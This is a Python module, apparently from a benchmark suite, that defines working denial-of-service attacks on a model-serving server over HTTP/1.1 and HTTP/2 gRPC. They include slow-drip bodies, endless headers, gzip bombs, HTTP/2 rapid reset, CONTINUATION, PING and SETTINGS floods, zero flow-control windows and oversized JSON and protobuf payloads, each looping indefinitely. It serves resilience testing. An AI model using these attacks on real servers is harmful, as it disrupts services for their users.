"""What one client may do to others. Each attack goes on for ever; a connection that the server ends is opened anew."""

from __future__ import annotations

import gzip
import itertools
import struct
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass
from typing import Final

from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

from benchmarks.fairness.peer import Rate, connected
from benchmarks.fuzz.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    head,
    literal,
    prefixed,
)
from benchmarks.fuzz.seeds import GRPC_SERVICE

BODY: Final = 8 * 2**20 - 200
"""Just below the longest body that a transformer takes by default."""

INFER: Final = GRPC_SERVICE + b"ModelInfer"


@dataclass(frozen=True)
class Victim:
    """Who is attacked.

    Attributes:
        port: Of HTTP.
        grpc_port: Of gRPC.
        path: Of a predict route that takes JSON.
        message: A good ``ModelInferRequest``.
    """

    port: int
    grpc_port: int
    path: str
    message: bytes


Attack = Callable[[Victim, Rate], Awaitable[None]]


def _post(path: str, body: bytes, *headers: str, length: int | None = None) -> bytes:
    size = len(body) if length is None else length
    lines = [f"POST {path} HTTP/1.1", "host: a", "content-type: application/json", f"content-length: {size}", *headers]
    return "\r\n".join((*lines, "", "")).encode() + body


async def _drip(victim: Victim, rate: Rate) -> None:
    """An 8 MiB body whose last 20 kB come byte by byte."""
    async with connected(victim.port, rate) as peer:
        await peer.send(_post(victim.path, b" " * (BODY - 20_000), length=BODY))
        for _ in range(20_000):
            await peer.send(b" ", piece=1)


async def _slow_start(victim: Victim, rate: Rate) -> None:
    """A long body that comes in segments of one byte from its beginning."""
    async with connected(victim.port, rate) as peer:
        await peer.send(_post(victim.path, b"", length=BODY))
        while True:
            await peer.send(b" ", piece=1)


async def _tiny_chunks(victim: Victim, rate: Rate) -> None:
    """A body in chunks of one byte."""
    head_of = f"POST {victim.path} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n"
    async with connected(victim.port, rate) as peer:
        await peer.send(f"{head_of}transfer-encoding: chunked\r\n\r\n".encode())
        while True:
            await peer.send(b"1\r\n \r\n" * 2000)


async def _stalled_bodies(victim: Victim, rate: Rate) -> None:
    """A body that stops ten bytes before its end, to one variant, and is held; there are many such connections."""
    async with connected(victim.port, rate) as peer:
        await peer.send(_post(victim.path, b" " * (BODY - 10), "x-model-variant: v1", length=BODY))
        await peer.hold()


async def _slow_heads(victim: Victim, rate: Rate) -> None:
    """A head that never ends."""
    async with connected(victim.port, rate) as peer:
        await peer.send(f"POST {victim.path} HTTP/1.1\r\nhost: a\r\n".encode())
        for number in itertools.count():
            await peer.send(b"x-%d: 1\r\n" % number, piece=3)


async def _connections(victim: Victim, rate: Rate) -> None:
    """Connections that are opened, asked something cheap, and dropped."""
    async with connected(victim.port, rate) as peer:
        await peer.send(b"GET /v2/health/live HTTP/1.1\r\nhost: a\r\n\r\n")


def _bodies(body: bytes, *headers: str, v2: bool = False) -> Attack:
    async def attack(victim: Victim, rate: Rate) -> None:
        path = victim.path.replace("/v1/", "/v2/").replace(":predict", "/infer") if v2 else victim.path
        async with connected(victim.port, rate, reads=False) as peer:
            while True:
                await peer.send(_post(path, body, *headers))
                await peer.read()

    return attack


def _list(entry: bytes, size: int = BODY) -> bytes:
    return b",".join([entry] * (size // (len(entry) + 1)))


def _keys(size: int = BODY) -> bytes:
    return b",".join(b'"k%d":1' % number for number in range(size // 13))


def _tensors(size: int = BODY) -> bytes:
    form = b'{"name":"a%d","datatype":"FP64","shape":[0],"data":[]}'
    return b",".join(form % number for number in range(size // 60))


def _frames(block: bytes, kind: int = DATA, flags: int = 0, payload: bytes = b"", times: int = 2000) -> Attack:
    """A call, then the same frame for ever."""

    async def attack(victim: Victim, rate: Rate) -> None:
        async with connected(victim.grpc_port, rate) as peer:
            await peer.send(PREFACE + frame(SETTINGS, 0, 0, b"") + block)
            while True:
                await peer.send(frame(kind, flags, 1 if kind in (DATA, CONTINUATION) else 0, payload) * times)

    return attack


def _messages(message: bytes, *, compressed: bool = False) -> Attack:
    """A message, again and again."""
    content = b"\1" + prefixed(message)[1:] if compressed else prefixed(message)
    block = head(INFER, literal(b"grpc-encoding", b"gzip") if compressed else b"")

    async def attack(victim: Victim, rate: Rate) -> None:
        async with connected(victim.grpc_port, rate) as peer:
            # as if the windows had been opened: a server that minds closes the connection, and another is opened
            await peer.send(PREFACE + frame(SETTINGS, 0, 0, b""))
            for stream in itertools.count(1, 2):
                await peer.send(frame(HEADERS, END_HEADERS, stream, block))
                for at in range(0, len(content), 16_384):
                    part = content[at : at + 16_384]
                    last = at + 16_384 >= len(content)
                    await peer.send(frame(DATA, END_STREAM if last else 0, stream, part))

    return attack


async def _rapid_reset(victim: Victim, rate: Rate) -> None:
    """Calls that are given up as soon as they are sent."""
    content = prefixed(victim.message)
    async with connected(victim.grpc_port, rate) as peer:
        await peer.send(PREFACE + frame(SETTINGS, 0, 0, b""))
        for stream in itertools.count(1, 2):
            call = frame(HEADERS, END_HEADERS, stream, head(INFER)) + frame(DATA, END_STREAM, stream, content)
            await peer.send(call + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))


def _windows(initial: int, update: int) -> Attack:
    """Calls whose answers may not be sent, or byte by byte."""

    async def attack(victim: Victim, rate: Rate) -> None:
        content = prefixed(victim.message)
        async with connected(victim.grpc_port, rate) as peer:
            await peer.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, initial)))
            for stream in itertools.count(1, 2):
                call = frame(HEADERS, END_HEADERS, stream, head(INFER)) + frame(DATA, END_STREAM, stream, content)
                await peer.send(call)
                if update:
                    await peer.send(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", update)) * 100)

    return attack


async def _end_twice(victim: Victim, rate: Rate) -> None:
    """A call that ends again and again."""
    content = prefixed(victim.message)
    async with connected(victim.grpc_port, rate) as peer:
        await peer.send(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS, 1, head(INFER)))
        while True:
            await peer.send(frame(DATA, END_STREAM, 1, content) * 10)


async def _header_blocks(victim: Victim, rate: Rate) -> None:
    """Calls with one long header, Huffman-coded and another each time."""
    coder = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH)
    coded = coder.encode(b"aeiost" * 9000)
    length = bytes((0xFF, *_integer(len(coded) - 127)))
    async with connected(victim.grpc_port, rate) as peer:
        await peer.send(PREFACE + frame(SETTINGS, 0, 0, b""))
        for stream in itertools.count(1, 2):
            block = head(INFER) + literal(b"n", b"%d" % stream) + b"\0\x01a" + length + coded
            parts = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
            frames = [frame(HEADERS, END_STREAM, stream, parts[0])]
            frames += [frame(CONTINUATION, 0, stream, part) for part in parts[1:-1]]
            await peer.send(b"".join((*frames, frame(CONTINUATION, END_HEADERS, stream, parts[-1]))))


async def _unfinished_calls(victim: Victim, rate: Rate) -> None:
    """Calls whose long message never ends."""
    async with connected(victim.grpc_port, rate) as peer:
        await peer.send(PREFACE + frame(SETTINGS, 0, 0, b""))
        for stream in itertools.count(1, 2):
            await peer.send(frame(HEADERS, END_HEADERS, stream, head(INFER)))
            for _ in range(100):
                await peer.send(frame(DATA, 0, stream, b"\0\0\x7f\xff\xff" + b" " * 16_000))


def _integer(value: int) -> list[int]:
    octets = []
    while value >= 128:
        octets.append(value % 128 + 128)
        value //= 128
    return [*octets, value]


_OPEN: Final = frame(HEADERS, END_HEADERS, 1, head(INFER))
_ROW: Final = b'{"customer_id":"a\\":\\"b","depot_id":2,"weight_kg":2.5,"fragile":false,"postcode":"x"}'

_BOTH: Final[Mapping[str, tuple[Attack, int]]] = {
    "body, last 20 kB by byte": (_drip, 2),
    "body by byte": (_slow_start, 4),
    "chunks of one byte": (_tiny_chunks, 2),
    "bodies 10 bytes short": (_stalled_bodies, 100),
    "heads that never end": (_slow_heads, 20),
    "connections": (_connections, 4),
    "gzip bomb": (_bodies(gzip.compress(b" " * (BODY * 8)), "content-encoding: gzip", v2=True), 2),
    "gzip of empty members": (_bodies(gzip.compress(b"") * (BODY // 20), "content-encoding: gzip", v2=True), 2),
    "gzip bomb over gRPC": (_messages(gzip.compress(b" " * BODY), compressed=True), 2),
    "JSON of tiny tensors": (_bodies(b'{"inputs":[' + _tensors() + b"]}", v2=True), 2),
    "JSON of unknown parameters": (_bodies(b'{"inputs":[],"parameters":{' + _keys() + b"}}", v2=True), 2),
    "protobuf of empty inputs": (_messages(b"\x2a\x00" * (BODY // 2)), 2),
    "protobuf of empty outputs": (_messages(b"\x32\x00" * (BODY // 2)), 2),
    "protobuf of parameters": (_messages(b"\x22\x00" * (BODY // 2)), 2),
    "rapid reset": (_rapid_reset, 2),
    "zero windows": (_windows(0, 0), 2),
    "windows of one byte": (_windows(0, 1), 2),
    "ended again and again": (_end_twice, 2),
    "CONTINUATION flood": (_frames(frame(HEADERS, 0, 1, head(INFER)), CONTINUATION), 2),
    "PING flood": (_frames(b"", PING, 0, b"\0" * 8), 2),
    "SETTINGS flood": (_frames(b"", SETTINGS, 0, struct.pack(">HI", 4, 65_535)), 2),
    "empty DATA": (_frames(_OPEN, DATA), 2),
    "header blocks": (_header_blocks, 2),
    "unfinished calls": (_unfinished_calls, 4),
}

ATTACKS: Final[Mapping[str, Mapping[str, tuple[Attack, int]]]] = {
    "transformer": {
        **_BOTH,
        "JSON of unknown keys": (_bodies(b'{"instances":[{' + _keys() + b"}]}"), 2),
        "JSON of empty rows": (_bodies(b'{"instances":[' + _list(b"{}") + b"]}"), 2),
        "JSON of quoted rows": (_bodies(b'{"instances":[' + _list(_ROW, 900_000) + b"]}"), 2),
        "deadlines of 1 ms": (_bodies(b'{"instances":[{}]}', "x-envoy-expected-rq-timeout-ms: 1"), 4),
    },
    "predictor": _BOTH,
}
"""By server and name: the attack, and on how many connections at once."""
